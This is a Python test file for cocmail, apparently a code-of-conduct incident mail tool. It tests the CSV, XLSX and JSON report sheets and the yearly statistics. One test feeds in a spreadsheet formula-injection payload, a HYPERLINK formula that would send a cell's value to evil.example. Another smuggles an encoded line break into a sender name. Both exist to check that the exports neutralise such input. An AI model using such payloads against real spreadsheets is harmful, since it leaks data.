"""`cocmail report`: the internal sheet, built from cases made through real mail.

Every case here starts as a mail to the conduct address (or a staff member's mail for an
in-person report) and moves on by staff replying to their own notifications, exactly as
a CoC team uses cocmail; the sheet is then read back the way a colleague would open it:
CSV with the csv module, XLSX with openpyxl, JSON with json.

`Desk` and `Clock` (testsupport/apps.py) are shared with test_people, test_digest and
test_retention.
"""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from collections.abc import Callable
from datetime import UTC, datetime
from email.message import EmailMessage
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from cocmail.core.report import COLUMNS, to_csv
from cocmail.store import cases as cases_db
from testsupport.apps import Clock, Desk  # noqa: F401 - Clock: older tests import it here
from testsupport.helpers import body_of

# The contract (docs/interface.md), spelled out rather than imported, so that a change to
# report.COLUMNS cannot silently change what this test expects.
EXPECTED_COLUMNS = ["Case", "Status", "Opened", "Reporter name", "Reporter email",
                    "Received by", "Handled by", "When", "Where", "Details", "Action taken",
                    "Outcome", "Others aware", "Reported to DSF"]
ZONE_BERLIN = ZoneInfo("Europe/Berlin")


def to_names(msgs: list[EmailMessage]) -> list[str]:
    return sorted(m["To"].addresses[0].addr_spec for m in msgs)


@pytest.fixture
def desk(make_desk: Callable[..., Desk]) -> Desk:
    return make_desk(ends="2027-05-07")


def build_three_cases(desk: Desk) -> None:
    """1: emailed report, full procedure; 2: anonymous, staff-entered; 3: in person, named."""
    n = desk.report('"O\'Brien, Zoe \\"Zo\\"" <zoe@attendee.example>',
                    "Someone kept touching my arm at the party.\n")
    assert n == 1
    desk.staff("ana@example.org", 1,
               "#accused Dan Doe <dan@speaker.example>\n"
               "#when Thursday, 14:00 \"after the keynote\"\n"
               "#where Salle Ève, 2ᵉ étage; near the bar\n"
               "#summary Unwanted touching, \"twice\", after alcohol; reporter uncomfortable\n"
               "#others Ben; the venue's security, \"Ömer\"\n"
               "#action Warned; must keep away from the reporter\n"
               "#outcome warning\n"
               "#notify-harasser\n#notify-victim\n\nSpoke to both.\n")
    desk.staff("ben@example.org", 1, "#report-dsf now A neutral account, for the DSF.\n")
    desk.staff("ana@example.org", 1, "#close\n")
    assert desk.enter("ana@example.org",
                      "#reporter anonymous\n#summary Slurs shouted at the hackathon\n\n"
                      "Someone told me at the desk, did not want to give a name.\n") == 2
    assert desk.enter("ben@example.org",
                      "#reporter Łucja Nowak <lucja@attendee.example>\n#when Friday\n\n"
                      "She came to the desk.\n") == 3


def test_csv_has_the_contract_columns_and_one_line_per_case(desk: Desk, tmp_path: Path
                                                            ) -> None:
    build_three_cases(desk)
    out = tmp_path / "sheet.csv"
    desk.cli("report", "--format", "csv", "-o", str(out))
    data = out.read_bytes()
    text = data.decode("utf-8")  # UTF-8, and no BOM in front of the first column name
    assert text.startswith("Case,Status,")
    assert len(text.splitlines()) == 1 + 3  # header + one physical line per case
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == EXPECTED_COLUMNS
    sheet = {r["Case"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
    assert list(sheet) == ["1", "2", "3"]

    one = sheet["1"]
    assert one["Status"] == "closed"
    assert one["Opened"] == "2027-05-03 10:00"  # event time zone (Berlin, summer)
    assert one["Reporter name"] == 'O\'Brien, Zoe "Zo"'
    assert one["Reporter email"] == "zoe@attendee.example"
    assert one["Received by"] == "conduct@example.org (by email)"
    assert one["Handled by"] == "Ana Lima <ana@example.org>; Ben Okafor <ben@example.org>"
    assert one["When"] == 'Thursday, 14:00 "after the keynote"'
    assert one["Where"] == "Salle Ève, 2ᵉ étage; near the bar"
    assert one["Details"] == ("Unwanted touching, \"twice\", after alcohol; "
                              "reporter uncomfortable")
    assert one["Action taken"] == "Warned; must keep away from the reporter"
    assert one["Outcome"] == "warning"
    assert one["Others aware"] == "Ben; the venue's security, \"Ömer\""
    assert one["Reported to DSF"] == "yes, 2027-05-03 10:00"

    anonymous = sheet["2"]
    assert (anonymous["Reporter name"], anonymous["Reporter email"]) == ("anonymous", "")
    assert anonymous["Received by"] == "Ana Lima <ana@example.org>"
    assert anonymous["Details"] == "Slurs shouted at the hackathon"
    assert anonymous["Status"] == "open" and anonymous["Reported to DSF"] == "no"

    in_person = sheet["3"]
    assert in_person["Reporter name"] == "Łucja Nowak"
    assert in_person["Reporter email"] == "lucja@attendee.example"
    assert in_person["Received by"] == "Ben Okafor <ben@example.org>"
    assert in_person["Handled by"] == "Ben Okafor <ben@example.org>"
    assert stat.S_IMODE(os.stat(out).st_mode) == 0o600  # it holds personal data


def test_csv_on_stdout_is_the_same_sheet(desk: Desk, tmp_path: Path) -> None:
    build_three_cases(desk)
    desk.cli("report", "-o", str(tmp_path / "f.csv"))
    assert desk.cli("report") == (tmp_path / "f.csv").read_text(encoding="utf-8")


def test_the_report_never_carries_the_narrative(desk: Desk) -> None:
    build_three_cases(desk)
    text = desk.cli("report")
    for narrative in ("touching my arm", "Spoke to both", "neutral account", "did not want",
                      "came to the desk", "dan@speaker.example"):
        assert narrative not in text


def test_line_breaks_in_values_never_split_a_row() -> None:
    row = dict.fromkeys(COLUMNS, "")
    row.update({"Case": "7", "Details": "first line\nsecond line\r\nthird",
                "Others aware": 'a, "b"\n c', "Action taken": "x\u2028y"})
    text = to_csv([row])
    assert len(text.splitlines()) == 2
    (back,) = csv.DictReader(io.StringIO(text, newline=""))
    assert back["Details"] == "first line second line third"
    assert back["Others aware"] == 'a, "b" c'
    assert back["Action taken"] == "x y"


def test_encoded_line_break_in_a_reporters_name_stays_on_one_line(desk: Desk) -> None:
    raw = (b"From: =?utf-8?q?Zo=C3=AB=0D=0AEvil?= <zoe@attendee.example>\r\n"
           b"To: conduct@example.org\r\nSubject: help\r\nMessage-ID: <nl@attendee.example>\r\n"
           b"\r\nIt happened.\r\n")
    assert desk.receive(raw) == "done"
    text = desk.cli("report")
    assert len(text.splitlines()) == 2
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert row["Reporter name"] == "Zoë Evil"


def test_encoded_last_first_name_reaches_the_sheet_whole(desk: Desk) -> None:
    raw = (b"From: =?utf-8?q?M=C3=BCller=2C_J=C3=BCrgen?= <jm@attendee.example>\r\n"
           b"To: conduct@example.org\r\nSubject: help\r\nMessage-ID: <lf@attendee.example>\r\n"
           b"\r\nIt happened.\r\n")
    desk.receive(raw)
    (row,) = csv.DictReader(io.StringIO(desk.cli("report"), newline=""))
    assert row["Reporter name"] == "Müller, Jürgen"


def test_formula_like_values_are_text_in_csv_and_xlsx(desk: Desk, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    desk.report('"=HYPERLINK(""http://evil.example/?""&B2,""x"")" <eve@attendee.example>',
                "Report.\n")
    desk.staff("ana@example.org", 1, "#summary -2 points after the talk\n#where @home\n")
    (row,) = csv.DictReader(io.StringIO(desk.cli("report"), newline=""))
    assert row["Reporter name"].startswith("'=HYPERLINK(")
    assert row["Details"] == "'-2 points after the talk"
    assert row["Where"] == "'@home"
    out = tmp_path / "sheet.xlsx"
    desk.cli("report", "--format", "xlsx", "-o", str(out))
    ws = load_workbook(out).active
    cells = {ws.cell(1, c).value: ws.cell(2, c) for c in range(1, ws.max_column + 1)}
    assert cells["Reporter name"].data_type == "s"
    assert cells["Reporter name"].value.startswith("=HYPERLINK(")  # the value, kept as text
    assert cells["Details"].value == "-2 points after the talk"


def test_xlsx_reads_back_with_openpyxl(desk: Desk, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    build_three_cases(desk)
    out = tmp_path / "sheet.xlsx"
    desk.cli("report", "--format", "xlsx", "-o", str(out))
    assert stat.S_IMODE(os.stat(out).st_mode) == 0o600
    ws = load_workbook(out).active
    values = [[c.value for c in row] for row in ws.iter_rows()]
    assert values[0] == EXPECTED_COLUMNS
    assert [r[0] for r in values[1:]] == ["1", "2", "3"]
    by_case = {r[0]: dict(zip(EXPECTED_COLUMNS, r, strict=True)) for r in values[1:]}
    assert by_case["1"]["Where"] == "Salle Ève, 2ᵉ étage; near the bar"
    assert by_case["1"]["Handled by"] == ("Ana Lima <ana@example.org>; "
                                          "Ben Okafor <ben@example.org>")
    assert by_case["2"]["Reporter name"] == "anonymous"
    assert by_case["3"]["Received by"] == "Ben Okafor <ben@example.org>"
    csv_rows = list(csv.reader(io.StringIO(desk.cli("report"), newline="")))
    assert [[v or "" for v in r] for r in values] == csv_rows  # the same sheet


def test_json_has_one_object_per_case_with_the_columns_in_order(desk: Desk) -> None:
    build_three_cases(desk)
    rows = json.loads(desk.cli("report", "--format", "json"))
    assert [list(r) for r in rows] == [EXPECTED_COLUMNS] * 3
    assert rows[1]["Reporter name"] == "anonymous"
    assert rows[2]["Reporter name"] == "Łucja Nowak"


def test_dsf_cell_says_scheduled_until_the_report_goes_out(desk: Desk) -> None:
    desk.report("Eve <eve@attendee.example>", "Report.\n")
    desk.staff("ana@example.org", 1, "#when Tue\n#where Hall\n#action Warned\n#report-dsf "
                                     "What happened, neutrally.\n")
    (row,) = csv.DictReader(io.StringIO(desk.cli("report"), newline=""))
    assert row["Reported to DSF"] == "scheduled for 2027-05-08 00:00"  # day after `ends`
    assert not any("djangoproject" in str(m["To"]) for m in desk.sent())
    desk.clock.set(datetime(2027, 5, 8, 0, 0, tzinfo=ZONE_BERLIN))
    desk.app.outbox.deliver_due()
    dsf = [m for m in desk.sent() if "conduct@djangoproject.com" in str(m["To"])]
    assert len(dsf) == 1 and "What happened, neutrally." in body_of(dsf[0])
    # the CLI reads the wall clock, so read the sheet the same way it is built
    from cocmail.core.report import case_row

    case = desk.app.store.read(cases_db.load_case, 1)
    assert case is not None
    assert case_row(case, desk.app.pipeline.env())["Reported to DSF"] == "yes, 2027-05-08 00:00"


# ------------------------------------------------------------------ cocmail stats
def test_stats_counts_reports_people_and_outcomes_per_year(desk: Desk) -> None:
    outcomes = ["warning", "warning", "suspension", "ban", "not-a-violation", "out-of-scope",
                "no-action", "talk-ended"]
    for i, outcome in enumerate(outcomes):
        n = desk.report(f"R{i} <r{i}@attendee.example>", "Report.\n")
        desk.staff("ana@example.org", n, f"#accused A{i} <a{i}@x.example>\n#action Done\n"
                                         f"#outcome {outcome}\n#close\n")
    n = desk.report("Two <two@attendee.example>", "Two people did it.\n")
    desk.staff("ben@example.org", n, "#accused Pat One\n#accused Sam Two <sam@x.example>\n")
    desk.clock.set(datetime(2027, 12, 31, 23, 30, tzinfo=UTC))  # 00:30 on New Year, Berlin
    desk.report("Late <late@attendee.example>", "Report.\n")

    data = json.loads(desk.cli("stats", "--json"))
    assert list(data["periods"]) == ["2027", "2028"]
    year = data["periods"]["2027"]
    contract = {"reports": 9, "people named": 10, "warnings": 2, "suspensions": 1, "bans": 1,
                "not a violation": 1, "out of scope": 1, "no action": 1}
    assert {k: year[k] for k in contract} == contract
    assert year["talk ended"] == 1 and year["no outcome yet"] == 1
    assert sum(v for k, v in year.items() if k not in ("reports", "people named")) == 9
    assert data["periods"]["2028"]["reports"] == 1
    text = desk.cli("stats")
    assert text.startswith("2027: reports 9, people named 10, warnings 2, suspensions 1, "
                           "bans 1, not a violation 1, out of scope 1, no action 1")
    assert "attendee.example" not in text and "Pat" not in json.dumps(data)
